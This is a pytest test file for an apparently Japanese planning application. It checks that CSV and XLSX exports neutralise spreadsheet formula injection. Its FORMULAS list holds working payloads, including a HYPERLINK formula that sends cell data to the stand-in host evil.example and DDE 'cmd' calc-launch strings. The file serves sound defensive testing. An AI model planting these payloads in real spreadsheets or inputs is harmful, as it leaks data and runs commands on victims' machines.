"""Formula injection: text a spreadsheet would run, stored through every write path, is neutralised in every
CSV and XLSX export — the open-data export, the audit export, the evaluation and comparison reports and the
actual-value templates.  In a workbook no cell is a formula; in a CSV no text field starts like one.
"""

import csv
import io
import re
from collections.abc import Iterator

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, update
from tests.web.workbooks import filled_workbook

from keikaku.reports.safe_cells import FORMULA_PREFIXES, is_dangerous_text
from keikaku.services.actuals.record import ActualInput, set_actual
from keikaku.services.core.actors import Actor, Role
from keikaku.services.governance.accounts import local_admin
from keikaku.services.governance.audit import export_audit
from keikaku.storage import models as m
from keikaku.storage.uow import unit_of_work

from .conftest import find_ids, first_link_id, make_client

pytestmark = pytest.mark.usefixtures("cheap_hasher")

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"関西")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
]
#: A number written as text (a negative budget change) is a value, not a formula.
NUMBER = re.compile(r"^[-+]?\d+(\.\d+)?$")


def _dangerous(value: object) -> bool:
    text = str(value)
    starts = text.startswith(FORMULA_PREFIXES) or text[:1] in {"=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"}
    return starts and not NUMBER.match(text)


def assert_csv_safe(text: str, where: str) -> list[str]:
    """No field of the CSV starts like a formula; returns every field."""
    fields = [field for row in csv.reader(io.StringIO(text)) for field in row]
    bad = [f for f in fields if _dangerous(f)]
    assert bad == [], (where, bad[:5])
    return fields


def assert_workbook_safe(content: bytes, where: str) -> list[str]:
    """No cell of the workbook is a formula or text starting like one; returns every text cell."""
    wb = openpyxl.load_workbook(io.BytesIO(content))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not _dangerous(cell.value), (where, ws.title, cell.coordinate, cell.value)
                    texts.append(cell.value)
    return texts


@pytest.fixture
def hostile(sqlite_loaded_engine: Engine) -> Iterator[TestClient]:
    """The Kansai data with formulas in plan text, actual values' notes, an import, a link note, user names."""
    engine = sqlite_loaded_engine
    with unit_of_work(engine) as session:
        session.execute(update(m.Project).where(m.Project.code == "3").values(name=FORMULAS[0]))
        session.execute(update(m.Project).where(m.Project.code == "4").values(name=FORMULAS[6]))
        session.execute(update(m.Kpi).where(m.Kpi.indicator == "参加者数").values(indicator=FORMULAS[3], unit="＠"))
        session.execute(update(m.Kpi).where(m.Kpi.indicator == "PR回数").values(text=FORMULAS[1]))
        session.execute(update(m.Department).where(m.Department.name == "ものづくり支援課").values(name=FORMULAS[9]))
    with make_client(engine) as client:
        ids = find_ids(client)
        first, second, third = ids.platform_kpis
        for number, formula in enumerate(FORMULAS, start=1):
            data = {"fiscal_year": "2026", "value": str(number), "note": formula, "evidence_text": formula}
            if number > 1:
                data["reason"] = formula
            assert client.post(f"/kpis/{first}", data=data, follow_redirects=False).status_code == 303
        body = {"fiscal_year": "2026", "value": "3", "note": FORMULAS[2], "evidence_text": FORMULAS[5]}
        assert client.post(f"/api/v1/kpis/{second}/actuals", json=body).status_code == 201
        cells = {"実績値": 100, "備考": FORMULAS[4], "根拠・出典": FORMULAS[7], "測定日": None}
        imported = client.post(
            "/api/v1/actuals/import", files={"file": ("f.xlsx", filled_workbook(engine, {third: cells}), XLSX)}
        )
        assert imported.status_code == 200, imported.text
        link = first_link_id(client, ids)
        assert client.post(
            f"/api/v1/partners/links/{link}", json={"action": "confirm", "note": FORMULAS[8]}
        ).status_code
        # ``keikaku actual set --user`` takes any name, and it is not normalised.
        for value, formula in enumerate((FORMULAS[6], FORMULAS[0], FORMULAS[4]), start=7):
            who = Actor(name=formula, roles=frozenset({Role.BUREAU_ADMIN}))
            set_actual(ActualInput(kpi=second, fiscal_year=2026, value=value, reason=formula), actor=who, engine=engine)
        yield client


def test_the_open_data_csv_neutralises_formulas(hostile: TestClient) -> None:
    for url in ("/api/v1/export/csv", "/api/v1/export/csv?fiscal_year=2026"):
        response = hostile.get(url)
        assert response.status_code == 200
        fields = assert_csv_safe(response.content.decode("utf-8-sig"), url)
        assert "'" + FORMULAS[0] in fields and "'" + FORMULAS[3] in fields and "'" + FORMULAS[9] in fields


def test_the_reports_neutralise_formulas(hostile: TestClient) -> None:
    evaluation = hostile.get("/api/v1/reports/evaluation", params={"format": "xlsx", "fiscal_year": 2026})
    assert evaluation.status_code == 200
    texts = assert_workbook_safe(evaluation.content, "evaluation report")
    assert "'" + FORMULAS[0] in texts and "'" + FORMULAS[3] in texts
    comparison = hostile.get("/api/v1/reports/comparison", params={"format": "xlsx", "before": 2023, "after": 2026})
    assert comparison.status_code == 200
    assert_workbook_safe(comparison.content, "comparison report")


def test_the_actual_value_templates_neutralise_formulas(hostile: TestClient) -> None:
    xlsx = hostile.get("/api/v1/actuals/template", params={"fiscal_year": 2026})
    texts = assert_workbook_safe(xlsx.content, "template")
    assert "'" + FORMULAS[3] in texts and "'" + FORMULAS[9] in texts
    csv_file = hostile.get("/api/v1/actuals/template", params={"fiscal_year": 2026, "format": "csv"})
    fields = assert_csv_safe(csv_file.content.decode("utf-8-sig"), "CSV template")
    assert "'" + FORMULAS[3] in fields


def test_the_audit_export_neutralises_formulas(hostile: TestClient, sqlite_loaded_engine: Engine) -> None:
    auditor = local_admin({"USER": "auditor"})
    out = io.BytesIO()
    export_audit(auditor, "csv", out, engine=sqlite_loaded_engine)
    fields = assert_csv_safe(out.getvalue().decode("utf-8-sig"), "audit CSV")
    # Names and free text stay as typed (＝ and the link note's － kept, issue 15); a cell's tab is trimmed.
    expected = {"'" + FORMULAS[0], "'" + FORMULAS[6], "'" + FORMULAS[4], "'" + FORMULAS[8], "'=1+1"}
    assert expected <= set(fields), expected - set(fields)
    book = io.BytesIO()
    export_audit(auditor, "xlsx", book, engine=sqlite_loaded_engine)
    texts = assert_workbook_safe(book.getvalue(), "audit XLSX")
    assert "'" + FORMULAS[6] in texts and "'" + FORMULAS[0] in texts


@pytest.mark.parametrize("value", FORMULAS)
def test_every_formula_prefix_is_seen_as_dangerous(value: str) -> None:
    assert is_dangerous_text(value) and _dangerous(value)
    assert not is_dangerous_text("関西=1") and not _dangerous("-12.5")
